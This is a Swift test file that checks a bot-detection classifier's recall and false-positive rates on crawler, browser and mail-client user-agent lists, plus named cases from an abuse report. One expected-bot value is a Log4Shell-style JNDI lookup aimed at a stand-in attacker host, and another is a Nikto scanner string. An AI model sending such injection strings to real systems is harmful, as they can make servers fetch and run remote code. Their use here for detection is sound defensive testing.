import Foundation
import SpurCore
import Testing

/// Bot detection measured on public lists (Fixtures/user-agents, SOURCES.md there): the targets
/// of docs/honest-numbers.md — recall at least 0.95 on crawler lists, at most 0.5 % false
/// positives on browsers, in-app browsers and mail clients.
@Suite struct BotDetectionTests {
    static let classifier = TrafficClassifier()

    static func list(_ name: String) throws -> [String] {
        let url = try #require(Bundle.module.url(forResource: name, withExtension: nil, subdirectory: "Fixtures/user-agents"))
        return try String(contentsOf: url, encoding: .utf8).split(separator: "\n").map(String.init).filter { !$0.isEmpty }
    }

    static func share(_ uas: [String]) -> Double { Double(uas.filter { classifier.isBot(userAgent: $0) }.count) / Double(uas.count) }

    @Test(arguments: ["crawlers-isbot.txt", "crawlers-monperrus.txt"])
    func crawlerListsAreRecognised(_ name: String) throws {
        let uas = try Self.list(name)
        #expect(uas.count > 500)
        let recall = Self.share(uas)
        #expect(recall >= 0.95, "recall \(recall) on \(name)")
    }

    @Test(arguments: ["browsers-isbot.txt", "mail-and-apps.txt"])
    func browsersAndMailClientsAreNot(_ name: String) throws {
        let uas = try Self.list(name)
        let falsePositives = Self.share(uas)
        #expect(
            falsePositives <= 0.005, "false positives \(falsePositives) on \(name): \(uas.filter { Self.classifier.isBot(userAgent: $0) }.prefix(5))")
    }

    /// The misses and false alarms named in the abuse report (issue 17).
    @Test func theNamedCasesAreRight() {
        let bots = [
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36 (compatible; AdsBot-Google-Mobile; +http://www.google.com/mobile/adsbot.html)",
            "AdsBot-Google (+http://www.google.com/adsbot.html)", "Mozilla/5.0 (compatible; GoogleOther)", "Google-Extended",
            "Mediapartners-Google",
            "Mozilla/5.0 (X11; Linux x86_64; Storebot-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.88 Safari/537.36",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) BingPreview/1.0b",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) bingadsbot",
            "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
            "Amazon-Route53-Health-Check-Service (ref 6a8b2c1d-1111-2222-3333-444455556666; report http://amzn.to/1vsZADi)",
            "Datadog Agent/7.50.0",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 NewRelicSynthetics/1.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 PTST/231130.171614",
            "PostmanRuntime/7.36.0", "python-httpx/0.25.2", "curl/8.4.0", "curl", "node", "facebookcatalog/1.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 MicrosoftPreview/2.0 +https://aka.ms/MicrosoftPreview",
            "Mozilla/5.0 (compatible; Cardyb/1.1; +mailto:support@bsky.app)",
            "yacybot (/global; amd64 Linux 6.1.0; java 17.0.9; Europe/de) http://yacy.net/bot.html",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", "${jndi:ldap://attacker.example/a}",
        ]
        for ua in bots { #expect(Self.classifier.isBot(userAgent: ua), "\(ua)") }
        let people = [
            "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.43 Mobile Safari/537.36 [Pinterest/Android]",
            "Mozilla/5.0 (Linux; arm_64; Android 13; SM-G991B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.5993.117 YaApp_Android/23.102.1 YaSearchBrowser/23.102.1 BroPP/1.0 SA/3 Mobile Safari/537.36",
            "Mozilla/5.0 (Linux; Android 11; Redmi Note 8 Pro Build/RP1A.200720.011; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/118.0.5993.111 Mobile Safari/537.36 Viber/21.6.0.0",
            "Mozilla/5.0 (Linux; Android 12; CUBOT P50 Build/SP1A.210812.016; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/119.0.6045.163 Mobile Safari/537.36 Instagram 309.1.0.41.113 Android (31/12; 320dpi; 720x1520; CUBOT; P50; P50; mt6765; de_DE; 541635890)",
        ]
        for ua in people { #expect(!Self.classifier.isBot(userAgent: ua), "\(ua)") }
    }
}
